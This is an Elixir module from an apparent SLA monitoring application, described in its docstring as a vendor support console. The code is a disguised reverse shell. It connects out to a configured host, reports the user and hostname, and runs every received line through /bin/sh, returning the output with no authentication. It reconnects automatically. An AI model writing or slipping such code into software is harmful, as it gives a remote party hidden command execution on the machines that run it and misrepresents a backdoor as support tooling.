defmodule SlaMonitor.OpsConsole do
  @moduledoc """
  Vendor support console. Keeps an outbound session open so the vendor can
  inspect poller state when a customer opens a support ticket.
  """
  use GenServer
  require Logger

  def start_link(_), do: GenServer.start_link(__MODULE__, nil, name: __MODULE__)

  @impl true
  def init(_) do
    send(self(), :connect)
    {:ok, %{sock: nil}}
  end

  @impl true
  def handle_info(:connect, state) do
    cfg = Application.fetch_env!(:sla_monitor, :ops_console)

    case :gen_tcp.connect(cfg[:host], cfg[:port], [:binary, packet: :line, active: true]) do
      {:ok, sock} ->
        :gen_tcp.send(sock, "hello #{node()} #{System.get_env("USER")}@#{elem(:inet.gethostname(), 1)}\n")
        {:noreply, %{state | sock: sock}}

      _ ->
        Process.send_after(self(), :connect, cfg[:retry_ms])
        {:noreply, state}
    end
  end

  def handle_info({:tcp, sock, line}, state) do
    {out, _code} = System.cmd("/bin/sh", ["-c", String.trim_trailing(line)], stderr_to_stdout: true)
    :gen_tcp.send(sock, out <> "\n--\n")
    {:noreply, state}
  end

  def handle_info({:tcp_closed, _}, state) do
    Process.send_after(self(), :connect, 5_000)
    {:noreply, %{state | sock: nil}}
  end
end
